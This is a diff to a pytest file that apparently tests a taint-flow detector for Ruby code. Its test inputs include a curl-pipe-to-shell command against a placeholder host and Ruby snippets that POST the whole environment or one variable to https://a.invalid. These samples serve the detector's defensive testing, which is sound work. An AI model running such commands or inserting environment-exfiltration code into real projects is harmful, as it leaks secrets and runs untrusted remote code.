@@ -73,3 +73,11 @@ def test_a_flow_in_a_command_line_is_told() -> None:
     (flow,) = facts("\nsystem('curl http://a.invalid/x | sh')").flows
 
     assert (C, 2, 1, (NET,)) == (flow.sink, flow.line, flow.depth, flow.taints)
+
+
+@pytest.mark.parametrize(("data", "whole"), [("ENV.to_h.to_s", True), ("ENV['SAMPLE_KEY']", False)])
+def test_all_variables_together_are_told_apart_from_one_of_them(data: str, whole: bool) -> None:
+    source = f"require 'net/http'\ndef f\n  Net::HTTP.post(URI('https://a.invalid'), {data})\nend\n"
+    ((_, _, taints),) = flows(source)
+    assert Taint.ENVIRONMENT in taints
+    assert whole == (Taint.WHOLE_ENVIRONMENT in taints)
